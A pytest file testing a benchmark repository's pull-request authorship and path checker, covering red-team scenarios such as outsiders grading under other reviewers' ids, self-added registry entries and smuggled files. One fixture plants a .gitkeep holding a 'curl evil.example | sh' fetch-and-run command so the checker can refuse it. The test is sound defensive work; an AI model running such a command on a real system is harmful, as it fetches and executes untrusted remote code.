"""check_pr_paths.py --author: a pull request speaks only for its author (issue 24), and nothing passes unchecked.

The red team's reproductions: an outsider adding a run to the #1 subject, grading it under another reviewer's
id, or filing the adjudication, is refused by the pre-flight with a message naming the rule; the registries
that grant anything are the BASE's, so a pull request cannot add its author and use the entry at once. And
the smuggling: a .gitkeep with content or out of place, a blob in scoring_consolidated/, a file in results/
the toolkit never writes.
"""

from __future__ import annotations

import json

import pytest
from gitrepo import toolkit_repo
from test_governance_paths import check
from treebuilder import REPO, canonical

from rgbench.governance.authorship import (
    LOGIN_PATTERN,
    Authority,
    authority_from_blobs,
    authorship_problem,
    is_login,
    scoring_reviewer,
)

REVIEWERS = """reviewers:
  - id: rev-a
    name: "A"
    kind: human
    handles: ["Ana-GH"]
  - id: rev-b
    name: "B"
    kind: human
    handles: ["bo-gh"]
  - id: rev-d
    name: "D"
    kind: human
    handles: ["dee-gh"]
    adjudicator: true
  - id: judge-x
    name: "Judge"
    kind: llm-judge
"""
RESPONSE = "responses/v1.0/alpha-model/RO-FOUL-001__r9.json"
UNGRADED = ("alpha-model", "RO-MEMB-001", "r2")   # small_tree's response without a scoring
EVAL_A = "scoring/v1.0/alpha-model/RO-MEMB-001__r2__eval-rev-a.json"
ADJ_D = "scoring_multi/v1.0/alpha-model/RO-MEMB-001__r2__adjudication-rev-d.json"
ADJ_B = "scoring_multi/v1.0/alpha-model/RO-MEMB-001__r2__adjudication-rev-b.json"
MAINTAINERS = ("a maintainer's change; a contributor's pull request either adds scorings (a review) or "
               "adds one subject's responses and its registry entry (a submission), with the regenerated results "
               "(ask a maintainer to make this change)")
REFUSED_TAIL = "this change needs the role: maintainer; authorship of {!r} checked against the base's registries; " \
               "nothing else was read"


@pytest.fixture
def bench(tmp_path):
    """The base: alpha-model answered for by alpha-team (beta-model by nobody), four reviewers, rev-d the
    adjudicator; a branch `pr` to commit the pull request on."""
    repo, tree = toolkit_repo(tmp_path / "bench")
    tree.subjects[0]["answered_by"] = ["alpha-team"]
    tree.write_registry()
    tree.write("subjects/reviewers.yaml", REVIEWERS)
    base = repo.commit("Base")
    repo.git("checkout", "-q", "-b", "pr")
    return repo, tree, base


def add_response(tree):
    tree.add_response("alpha-model", "RO-FOUL-001", "r9", 99)


def add_grade(tree, rel, reviewer):
    doc = tree.scoring_doc(*UNGRADED, reviewer, raw=0, correctness=0, fails=[("AF-CHLORINE-EXPOSURE", "critical")])
    tree.write(rel, canonical(doc))


# --- the red team's scenarios -------------------------------------------------------------------

def test_attack_an_outsider_adds_a_run_to_a_subject_they_do_not_answer_for(bench, capsys):
    # Outsider PR 1: a new response of the #1 subject passed as "a submission".
    repo, tree, base = bench
    add_response(tree)
    repo.commit("A run of alpha-model")
    status, err, out = check(repo, base, capsys, "--author", "mallory")
    assert (status, out) == (1, "")
    assert err == [
        f"{RESPONSE}: a new response of 'alpha-model', whose answered_by in subjects/registry.yaml at the base does "
        "not name 'mallory' (it names alpha-team): a pull request adds responses only of subjects whose answered_by "
        "names its author (ask a maintainer to add your login there, or to make this change)",
        "1 path problem(s) in 1 changed file(s); " + REFUSED_TAIL.format("mallory")]
    # Without --author (local use) the role is as before, and the output says authorship was not checked.
    status, err, out = check(repo, base, capsys)
    assert (status, err) == (0, [])
    assert out == ("paths: 1 changed file(s) checked; this change needs the role: submission; authorship not "
                   "checked (no --author)\n")


def test_a_subject_answered_for_by_nobody_takes_responses_from_a_maintainer_only(bench, capsys):
    repo, tree, base = bench
    tree.add_response("beta-model", "RO-MEMB-001", "r2", 40)
    repo.commit("A run of beta-model")
    status, err, _ = check(repo, base, capsys, "--author", "alpha-team")
    assert status == 1
    assert err[0] == (
        "responses/v1.0/beta-model/RO-MEMB-001__r2.json: a new response of 'beta-model', whose answered_by in "
        "subjects/registry.yaml at the base does not name 'alpha-team' (it names nobody): a pull request adds "
        "responses only of subjects whose answered_by names its author (ask a maintainer to add your login there, "
        "or to make this change)")


def test_attack_an_outsider_grades_under_another_reviewers_id(bench, capsys):
    # Outsider PR 2: a critical fail filed as rev-a passed as "a reviewer's".
    repo, tree, base = bench
    add_grade(tree, EVAL_A, "rev-a")
    repo.commit("Grade as rev-a")
    status, err, _ = check(repo, base, capsys, "--author", "mallory")
    assert (status, err) == (1, [
        f"{EVAL_A}: a new scoring under reviewer id 'rev-a', whose handles in subjects/reviewers.yaml at the base do "
        "not name 'mallory' (they name Ana-GH): a pull request adds scorings only under reviewer ids whose handles "
        "name its author (grade under your own reviewer id, or ask a maintainer)",
        "1 path problem(s) in 1 changed file(s); " + REFUSED_TAIL.format("mallory")])
    # an id nobody registered, and an id without handles (the LLM judge's), are a maintainer's too
    repo.git("reset", "-q", "--hard", base)
    add_grade(tree, "scoring/v1.0/alpha-model/RO-MEMB-001__r2__eval-mallory.json", "mallory")
    add_grade(tree, "scoring/v1.0/alpha-model/RO-SCAL-001__r1__eval-judge-x.json", "judge-x")
    repo.commit("Grade as myself, and as the judge")
    status, err, _ = check(repo, base, capsys, "--author", "mallory")
    assert status == 1
    assert err[:2] == [
        "scoring/v1.0/alpha-model/RO-MEMB-001__r2__eval-mallory.json: a new scoring under reviewer id 'mallory', "
        "not registered in subjects/reviewers.yaml at the base: a pull request adds scorings only under reviewer "
        "ids whose handles name its author (ask a maintainer to register you, with 'mallory' in handles)",
        "scoring/v1.0/alpha-model/RO-SCAL-001__r1__eval-judge-x.json: a new scoring under reviewer id 'judge-x', "
        "whose handles in subjects/reviewers.yaml at the base do not name 'mallory' (they name nobody): a pull "
        "request adds scorings only under reviewer ids whose handles name its author (grade under your own "
        "reviewer id, or ask a maintainer)"]


def test_attack_an_adjudication_filed_by_an_outsider_or_by_a_reviewer_who_is_no_adjudicator(bench, capsys):
    # "Where a run is still ungraded one PR suffices, filed under the adjudicator's id."
    repo, tree, base = bench
    add_grade(tree, ADJ_D, "rev-d")
    repo.commit("Adjudicate as rev-d")
    status, err, _ = check(repo, base, capsys, "--author", "mallory")
    assert (status, err[0]) == (1, (
        f"{ADJ_D}: an adjudication under reviewer id 'rev-d', whose handles in subjects/reviewers.yaml at the base "
        "do not name 'mallory' (they name dee-gh): a pull request adds scorings only under reviewer ids whose "
        "handles name its author (grade under your own reviewer id, or ask a maintainer)"))
    status, err, out = check(repo, base, capsys, "--author", "dee-gh")   # the adjudicator herself
    assert (status, err) == (0, [])
    assert out == ("paths: 1 changed file(s) checked; this change needs the role: reviewer; authorship of 'dee-gh' "
                   "checked against the base's registries\n")
    repo.git("reset", "-q", "--hard", base)
    add_grade(tree, ADJ_B, "rev-b")
    repo.commit("Adjudicate as rev-b")
    status, err, _ = check(repo, base, capsys, "--author", "bo-gh")
    assert (status, err) == (1, [
        f"{ADJ_B}: an adjudication under reviewer id 'rev-b', who is not an adjudicator (adjudicator: true) in "
        "subjects/reviewers.yaml at the base: only an adjudicator adds adjudications (file a second grade, "
        "<case_id>__<run_id>__eval-rev-b.json, or ask a maintainer)",
        "1 path problem(s) in 1 changed file(s); " + REFUSED_TAIL.format("bo-gh")])


def test_the_authors_own_review_and_submission_pass_whatever_the_logins_case(bench, capsys):
    repo, tree, base = bench
    add_grade(tree, EVAL_A, "rev-a")
    add_grade(tree, "scoring_multi/v1.0/alpha-model/RO-FOUL-001__r1__eval-rev-a.json", "rev-a")
    repo.commit("My grades")
    status, err, out = check(repo, base, capsys, "--author", "ana-gh")   # registered as Ana-GH
    assert (status, err) == (0, [])
    assert out.startswith("paths: 2 changed file(s) checked; this change needs the role: reviewer; authorship of")
    repo.git("reset", "-q", "--hard", base)
    add_response(tree)
    repo.commit("My run")
    status, err, out = check(repo, base, capsys, "--author", "ALPHA-team")
    assert (status, err) == (0, [])
    assert "needs the role: submission; authorship of 'ALPHA-team' checked" in out


def test_attack_a_pull_request_adding_its_author_to_the_registries_and_using_it_is_refused(bench, capsys):
    # The registries that grant are the base's: the pull request's own entries grant nothing.
    repo, tree, base = bench
    tree.subjects[0]["answered_by"] = ["alpha-team", "mallory"]
    tree.write_registry()
    tree.write("subjects/reviewers.yaml", REVIEWERS.replace('["Ana-GH"]', '["Ana-GH", "mallory"]'))
    add_response(tree)
    add_grade(tree, EVAL_A, "rev-a")
    repo.commit("Let me in, and use it")
    status, err, _ = check(repo, base, capsys, "--author", "mallory")
    assert status == 1
    assert [line.split(": ", 1)[0] for line in err[:-1]] == [RESPONSE, EVAL_A, "subjects/registry.yaml",
                                                             "subjects/reviewers.yaml"]
    assert "whose answered_by in subjects/registry.yaml at the base does not name 'mallory'" in err[0]
    assert "whose handles in subjects/reviewers.yaml at the base do not name 'mallory'" in err[1]
    assert err[2] == ("subjects/registry.yaml: changes registry entries or their history: a maintainer's change; a "
                      "contributor's pull request either adds scorings (a review) or adds one subject's responses and "
                      "its registry entry (a submission), with the regenerated results (ask a maintainer to make this "
                      "change)")
    assert err[3].startswith("subjects/reviewers.yaml: changes who may grade (subjects/reviewers.yaml): ")


def test_a_new_subject_is_a_registration_a_maintainers_change(bench, capsys):
    repo, tree, base = bench
    tree.add_subject("gamma-model", "1.0", answered_by=["gamma-lab"])
    tree.add_response("gamma-model", "RO-FOUL-001", "r1", 40)
    repo.commit("Submit gamma-model")
    status, err, _ = check(repo, base, capsys, "--author", "gamma-lab")
    assert (status, err) == (1, [
        "responses/v1.0/gamma-model/RO-FOUL-001__r1.json: a new response of 'gamma-model', a subject not in "
        "subjects/registry.yaml at the base: a new subject is a registration, a maintainer's change (ask a "
        "maintainer to register it with answered_by naming 'gamma-lab'; then add its responses)",
        "subjects/registry.yaml: registers gamma-model: a new subject is a registration, a maintainer's change (ask "
        "a maintainer to register it with answered_by naming 'gamma-lab'; then add its responses)",
        "2 path problem(s) in 2 changed file(s); " + REFUSED_TAIL.format("gamma-lab")])
    # A maintainer's pull request registers it: the same lines are notices.
    status, err, out = check(repo, base, capsys, "--author", "gamma-lab", "--maintainer")
    assert status == 0 and len(err) == 2 and all(line.endswith("(allowed: a maintainer's pull request)") for line in err)
    assert out.startswith("paths: 2 changed file(s) checked; this change needs the role: maintainer; authorship of")


@pytest.mark.parametrize("login", ["", "-lead", "a b", "x" * 40, "caf\u00e9", "mallory\n"])
def test_an_author_that_is_no_login_is_refused(bench, capsys, login):
    repo, _, base = bench
    status, err, out = check(repo, base, capsys, f"--author={login}")
    assert (status, out) == (1, "")
    assert err == [f"--author: {login!r} is not a code-host login ({LOGIN_PATTERN}: letters, digits and '-', at most "
                   "39 characters; pass the pull request author's login)"]


def test_authorship_rules_on_bytes():
    registry = b'subjects:\n  - subject_id: "a"\n    subject_version: "1"\n    answered_by: ["Team-A", "bad login"]\n'
    reviewers = (b"reviewers:\n  - id: r1\n    name: R\n    kind: human\n    handles: [x1]\n    adjudicator: true\n"
                 b"  - id: r2\n    name: R\n    kind: human\n    adjudicator: yes-please\n")
    authority = authority_from_blobs(registry, reviewers)
    assert authority == Authority({"a": ("Team-A",)}, {"r1": ("x1",), "r2": ()}, frozenset({"r1"}))
    assert authority_from_blobs(b"subjects: [\n", None) == Authority()   # unusable or absent: grants nothing
    assert authorship_problem("responses/v1.0/a/C-1__r1.json", "team-a", authority) is None
    assert authorship_problem("scoring_multi/v1.0/a/C-1__r1__adjudication-r1.json", "X1", authority) is None
    assert authorship_problem("golds/v1.0/C-1_gold.md", "x1", authority) is None        # not authorship's
    assert "cannot be told" in authorship_problem("scoring/v1.0/a/C-1__r1__adjudication-r1.json", "x1", authority)
    assert scoring_reviewer("scoring/v1.0/a/C-1__r1__eval-r1.json") == ("eval-", "r1")
    assert scoring_reviewer("scoring/v1.0/a/C-1__r1__eval-.json") is None
    assert [is_login(t) for t in ("a", "a-b-c", "A1", "a" * 39, "-a", "a_b", "a" * 40, "a.b", "")] == [True] * 4 + [False] * 5


def test_the_schemas_use_the_gates_login_pattern():
    for rel, pointer in (("system/schemas/v1.0/reviewers.schema.json", ("reviewers", "handles")),
                         ("system/schemas/v1.0/registry.schema.json", ("subjects", "answered_by"))):
        schema = json.loads((REPO / rel).read_text())
        items = schema["properties"][pointer[0]]["items"]["properties"][pointer[1]]["items"]
        assert items["pattern"] == LOGIN_PATTERN, rel


@pytest.mark.sample
def test_the_sample_registries_name_who_answers_and_who_adjudicates():
    authority = authority_from_blobs((REPO / "subjects/registry.yaml").read_bytes(),
                                     (REPO / "subjects/reviewers.yaml").read_bytes())
    assert all(authority.answered_by.values()) and authority.adjudicators == {"rev-dana"}
    adjudications = {path.name.split("__adjudication-")[1][:-5] for path in (REPO / "scoring_multi").rglob("*.json")
                     if "__adjudication-" in path.name}
    assert adjudications <= authority.adjudicators


def test_the_gates_reviewer_id_is_the_one_inside_the_file(tmp_path, capsys):
    # The file name's reviewer id is what the gate ties to the author; the loader refuses a scoring whose JSON
    # names another (validate.py, the gate's next step), so the JSON cannot speak for someone else.
    from treebuilder import small_tree

    from rgbench.cli import run_script

    tree = small_tree(tmp_path / "tree")
    tree.write("scoring/v1.0/alpha-model/RO-MEMB-001__r2__eval-rev-b.json", canonical(tree.scoring_doc(*UNGRADED, "rev-a")))
    assert run_script("validate", ["--root", str(tree.root)]) == 1
    assert ("scoring/v1.0/alpha-model/RO-MEMB-001__r2__eval-rev-b.json: $.reviewer_id: 'rev-a' does not match the "
            "file's path ('rev-b'); fix the id or rename the file") in capsys.readouterr().err.splitlines()


# --- nothing passes unchecked: .gitkeep, generated folders, results/ ------------------------------------------

def test_attack_a_gitkeep_with_content_or_out_of_place_is_refused(bench, capsys):
    repo, tree, base = bench
    tree.write("responses/v1.0/.gitkeep", "#!/bin/sh\ncurl evil.example | sh\n")
    tree.write("responses/v1.0/alpha-model/.gitkeep", "")
    tree.write("results/.gitkeep", "")
    tree.write("scoring/v1.0/deep/er/.gitkeep", "")
    repo.commit("Placeholders")
    status, err, _ = check(repo, base, capsys, "--maintainer")
    where = ("a .gitkeep only keeps an empty input folder in git, and goes only in responses/v1.0/, scoring/v1.0/, "
             "scoring_multi/v1.0/, golds/v1.0/ (remove this one)")
    assert status == 1
    assert err == [   # a maintainer's pull request: the placeholder's role is a notice, its content an error
        "responses/v1.0/.gitkeep: keeps an empty folder in git (.gitkeep): the layout's: a maintainer's change; a "
        "contributor's pull request either adds scorings (a review) or adds one subject's responses and its registry "
        "entry (a submission), with the regenerated results (ask a maintainer to make this change) (allowed: a "
        "maintainer's pull request)",
        "responses/v1.0/.gitkeep: is 33 bytes; a .gitkeep is empty (it only keeps a folder in git; empty it)",
        f"responses/v1.0/alpha-model/.gitkeep: {where}",
        f"results/.gitkeep: {where}",
        f"scoring/v1.0/deep/er/.gitkeep: {where}",
        "4 path problem(s) in 4 changed file(s); this change needs the role: maintainer; authorship not checked "
        "(no --author); nothing else was read"]


def test_an_empty_gitkeep_where_the_layout_puts_it_is_a_maintainers(bench, capsys):
    repo, tree, base = bench
    tree.write("golds/v1.0/.gitkeep", "")
    repo.commit("Keep golds/v1.0")
    status, err, _ = check(repo, base, capsys, "--maintainer")
    assert status == 0 and err[0].startswith("golds/v1.0/.gitkeep: keeps an empty folder in git (.gitkeep)")


def test_attack_a_blob_in_scoring_consolidated_or_results_is_refused(bench, capsys):
    # scoring_consolidated/ had the generated files' limit (MAX_RESULT_BYTES, 256 MB): a 60 MB blob passed. It
    # is git-ignored and never committed, so refused whoever adds it; results/ takes from a contributor only the
    # files the toolkit writes (a maintainer's new table comes with the code that writes it).
    repo, tree, base = bench
    tree.write("scoring_consolidated/v1.0/alpha-model/RO-FOUL-001__r1__eval-consolidated.json", b"{" + b" " * 1999)
    tree.write("results/payload.bin", b"\0" * 10)
    tree.write("results/sub/per_run.csv", "x\n")
    tree.write("results/per_run.csv", "x" * 2000)   # a file make metrics writes: generated results' own limit
    repo.git("add", "--force", "scoring_consolidated")   # git-ignored: an attacker adds it anyway
    repo.commit("Smuggle")
    status, err, _ = check(repo, base, capsys, "--max-bytes", "1000")
    foreign = ("adds a file the toolkit does not write into results/ (`make metrics` writes only its tables, the "
               f"manifest and the leaderboard there): {MAINTAINERS}")
    consolidated = [
        "scoring_consolidated/v1.0/alpha-model/RO-FOUL-001__r1__eval-consolidated.json: is 2000 bytes, above the "
        "limit of 1000 (is it the right file?)",
        "scoring_consolidated/v1.0/alpha-model/RO-FOUL-001__r1__eval-consolidated.json: scoring_consolidated/ is "
        "generated (`make agreement` writes it) and git-ignored: it is never committed (remove it from the pull "
        "request: git rm -r --cached scoring_consolidated)"]
    assert (status, err) == (1, [f"results/payload.bin: {foreign}", f"results/sub/per_run.csv: {foreign}",
                                 *consolidated,
                                 "4 path problem(s) in 4 changed file(s); this change needs the role: maintainer; "
                                 "authorship not checked (no --author); nothing else was read"])
    status, err, _ = check(repo, base, capsys, "--max-bytes", "1000", "--maintainer")
    assert (status, err[2:]) == (1, [*consolidated, "2 path problem(s) in 4 changed file(s); this change needs the "
                                     "role: maintainer; authorship not checked (no --author); nothing else was read"])
    assert err[:2] == [f"results/payload.bin: {foreign} (allowed: a maintainer's pull request)",
                       f"results/sub/per_run.csv: {foreign} (allowed: a maintainer's pull request)"]


def test_every_file_the_toolkit_writes_into_results_is_accepted():
    from rgbench.governance.gitio import Change
    from rgbench.governance.pr_paths import Facts, role_of, toolkit_result_names

    names = toolkit_result_names()
    for folder in (REPO / "results", REPO / "examples/medadvice/results"):
        written = {path.name for path in folder.iterdir() if path.is_file()} - {"README.md"}
        assert written and written <= names, written - names
        for name in written:
            assert role_of(Change("A", f"results/{name}", f"results/{name}", "100644", "b" * 40), Facts()) == (
                None, "a generated result"), name
